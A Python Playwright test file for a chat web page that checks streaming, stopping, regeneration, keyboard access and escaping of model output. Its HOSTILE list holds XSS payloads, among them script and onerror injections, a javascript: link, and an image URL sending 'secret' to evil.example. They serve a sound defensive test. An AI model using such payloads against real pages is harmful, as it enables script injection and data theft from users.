"The chat page in a real browser; skipped where there is none."
import os
import time
from pathlib import Path

import pytest

from nanochat_nb.serving import make_app, serving

CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")
playwright = pytest.importorskip("playwright.sync_api")
pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason=f"no {CHROMIUM}")

HOSTILE = ["<script>document.title='pwned'</script>", "<img src=x onerror=\"document.title='pwned'\">",
           "[x](javascript:alert(1))", "![](https://evil.example/?q=secret)", "<svg onload=alert(1)>",
           "<iframe src=//evil.example></iframe>", "</textarea></main><form action=//evil.example><style>*{display:none}",
           "\n```html\n<b>code</b> <script>document.title='pwned'</script>"]


class Actor:
    "A reply_fn whose behaviour depends on the question; counts what it said."

    def __init__(self):
        self.said, self.asked = 0, []

    def __call__(self, messages, params, cancelled):
        question = messages[-1]["content"]
        self.asked.append(messages)
        if question == "break":
            raise RuntimeError("out of luck")
        if question == "break off":
            yield {"type": "text", "text": "half a "}
            raise RuntimeError("out of luck")
        if question == "sum":
            yield {"type": "text", "text": "It is "}
            yield {"type": "python", "text": "3+4"}
            yield {"type": "python_output", "text": "7"}
        words = {"hostile": HOSTILE, "count": [f"{n} " for n in range(2000)], "letters": list("wörld 🙂 日本語 ```")}
        n = -1
        for n, word in enumerate(words.get(question, [f"Reply {len(self.asked)}", " to ", question])):
            if cancelled():
                break
            self.said += 1
            yield {"type": "text", "text": word}
            time.sleep(0.01 if question == "count" else 0.002)
        yield {"type": "end", "finish_reason": "cancelled" if cancelled() else "stop", "dropped_turns": 0, "tokens": n + 1}


@pytest.fixture(scope="module")
def browser():
    with playwright.sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=CHROMIUM,
                                     args=["--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu"])
        yield chromium
        chromium.close()


@pytest.fixture()
def actor():
    return Actor()


@pytest.fixture()
def page(browser, actor):
    info = {"id": "nanochat-<b>d4</b>", "parameters": 11_500_000, "step": 7, "device": "cpu"}
    with serving(make_app(actor, info)) as url:
        page = browser.new_page(viewport={"width": 360, "height": 640})
        page.set_default_timeout(10_000)
        foreign, errors = [], []
        page.on("request", lambda r: None if r.url.startswith((url, "data:")) else foreign.append(r.url))
        page.on("pageerror", lambda error: errors.append(error))
        page.goto(url)
        yield page
        assert page.title() != "pwned" and not foreign and not errors
        page.close()


def ask(page, text, wait=True):
    page.get_by_label("Message").fill(text)
    page.keyboard.press("Enter")
    if wait:
        done(page)


def done(page):
    page.wait_for_selector("#send:not([hidden])")


def replies(page):
    return page.locator(".reply").all_inner_texts()


def test_conversation(page, actor):
    page.get_by_text("11.5 million parameters · step 7 · cpu").wait_for()
    assert page.locator("#model").inner_text() == page.title() == "nanochat-<b>d4</b>"
    page.get_by_role("button", name="Who are you").click()
    done(page)
    ask(page, "letters")
    ask(page, "sum")
    assert replies(page)[:2] == ["Reply 1 to Who are you?", "wörld 🙂 日本語 ```"]
    assert page.locator(".tool").inner_text().split() == ["calculator", "3+4", "→", "7"]
    assert page.locator("#status").inner_text().startswith("Reply complete.")
    ask(page, "more")
    assert [m["role"] for m in actor.asked[-1]] == ["user", "assistant"] * 3 + ["user"]
    assert actor.asked[-1][5]["content"][:2] == [{"type": "text", "text": "It is "}, {"type": "python", "text": "3+4"}]
    page.locator("#scroller").evaluate("e => e.scrollTop = 0")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")        # nothing sticks out


def test_streams_and_stops(page, actor):
    ask(page, "count", wait=False)
    page.get_by_text("0 1 2 3").wait_for()                     # words are there while it goes on
    assert page.locator("#stop").is_visible()
    page.get_by_role("button", name="Stop").click()
    done(page)
    said = actor.said
    time.sleep(0.3)
    assert actor.said <= said + 10 and actor.said < 1000
    assert "Stopped." in page.locator(".note").inner_text()
    ask(page, "count", wait=False)
    page.locator(".reply").nth(1).get_by_text("0 1 2").wait_for()
    page.keyboard.press("Escape")
    done(page)
    ask(page, "hello")
    assert replies(page)[2] == "Reply 3 to hello"


def test_new_chat_while_it_replies(page, actor):
    ask(page, "count", wait=False)
    page.get_by_text("0 1 2 3").wait_for()
    page.get_by_role("button", name="New chat").click()
    ask(page, "hello")
    assert replies(page) == ["Reply 2 to hello"] and actor.asked[-1] == [{"role": "user", "content": "hello"}]
    time.sleep(0.2)
    assert replies(page) == ["Reply 2 to hello"]


def test_regenerate_and_copy(page, actor):
    ask(page, "one")
    ask(page, "two")
    page.locator(".reply").nth(1).click()                      # a click on a reply does nothing (F1)
    page.get_by_role("button", name="Regenerate").click()
    done(page)
    assert replies(page) == ["Reply 1 to one", "Reply 3 to two"]
    assert actor.asked[1] == actor.asked[2]
    page.get_by_role("button", name="Copy").last.click()
    page.get_by_role("button", name="Copied").wait_for()


def test_failures_leave_no_trace_in_the_conversation(page, actor):
    ask(page, "break")
    assert "RuntimeError" in page.locator(".note").inner_text()
    ask(page, "break off")
    assert replies(page)[1].strip() == "half a"
    ask(page, "hello")
    assert [m["content"] for m in actor.asked[-1] if m["role"] == "user"] == ["break off", "hello"]
    page.route("**/v1/chat/completions", lambda route: route.abort())
    ask(page, "anyone?")
    assert "does not answer" in page.locator(".note").last.inner_text()
    page.unroute("**/v1/chat/completions")
    page.get_by_role("button", name="Try again").click()
    done(page)
    assert replies(page)[-1].endswith("to anyone?")


def test_what_a_model_writes_is_text(page):
    ask(page, "hostile")
    reply = page.locator(".reply")
    for text in HOSTILE[:-1]:
        assert text in reply.inner_text()
    assert reply.locator("script, img, svg, iframe, form, style, a, textarea").count() == 0
    assert reply.locator("pre code").inner_text() == HOSTILE[-1].split("\n")[2]      # a fence that was never closed
    ask(page, "<img src=x onerror=\"document.title='pwned'\">")
    assert page.locator(".you img").count() == 0
    page.wait_for_timeout(100)


def test_enter_while_composing_does_not_send(page, actor):
    page.get_by_label("Message").fill("にほ")
    page.locator("#text").evaluate("""e => {
        e.dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', isComposing: true, bubbles: true}));
        e.dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', keyCode: 229, bubbles: true}));
    }""")
    page.keyboard.press("Shift+Enter")
    page.wait_for_timeout(100)
    assert actor.asked == [] and page.locator("#text").input_value() == "にほ\n"


def test_a_stream_cut_anywhere_gives_the_same_events(page):
    "At every byte, and into single bytes; with CRLF, comments and two events at once."
    cuts = page.evaluate("""async () => {
        const { EventReader } = await import('/static/chat.js');
        const bytes = new TextEncoder().encode(
            'data: {"a": "wörld 🙂"}\\n\\n: still here\\n\\ndata: {"b": "日本"}\\r\\n\\r\\ndata: {"c": 1}\\n\\ndata: [DONE]\\n\\n');
        const read = (...pieces) => {
            const reader = new EventReader();
            return JSON.stringify(pieces.flatMap((piece) => reader.push(piece)));
        };
        const results = [read(bytes), read(...[...bytes].map((b) => new Uint8Array([b])))];
        for (let i = 0; i <= bytes.length; i++) results.push(read(bytes.slice(0, i), bytes.slice(i)));
        return results;
    }""")
    assert set(cuts) == {'["{\\"a\\": \\"wörld 🙂\\"}","{\\"b\\": \\"日本\\"}","{\\"c\\": 1}","[DONE]"]'} and len(cuts) > 80


def test_follows_the_end_unless_the_reader_looks_back(page):
    for _ in range(3):
        ask(page, "letters")
    ask(page, "count", wait=False)
    page.get_by_text("150 151").wait_for()
    at_end = "(e) => e.scrollHeight - e.scrollTop - e.clientHeight < 60"
    assert page.locator("#scroller").evaluate(at_end)
    page.locator("#scroller").evaluate("e => e.scrollTop = 0")
    page.wait_for_timeout(200)
    assert page.locator("#scroller").evaluate("e => e.scrollTop") == 0
    page.get_by_role("button", name="Scroll to the end").click()
    assert page.locator("#scroller").evaluate(at_end)
    page.keyboard.press("Escape")
    done(page)


def test_keyboard_and_screen_reader(page):
    ask(page, "hello")
    names = []
    page.locator("body").evaluate("() => document.activeElement.blur()")
    for _ in range(8):
        page.keyboard.press("Tab")
        names.append(page.evaluate("() => document.activeElement.ariaLabel || document.activeElement.textContent.trim()"
                                   " || document.activeElement.id"))
    assert {"New chat", "Copy", "Regenerate"} <= set(names) and "text" in names, names
    assert page.get_by_role("log", name="Conversation").count() == 1
    assert page.get_by_role("status").count() == 1
    assert page.evaluate("[...document.querySelectorAll('button')].every(b => b.ariaLabel || b.textContent.trim())")
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        lightness = page.evaluate("getComputedStyle(document.body).backgroundColor.match(/\\d+/g).reduce((a, b) => a + +b, 0)")
        assert (lightness > 600) == (scheme == "light")
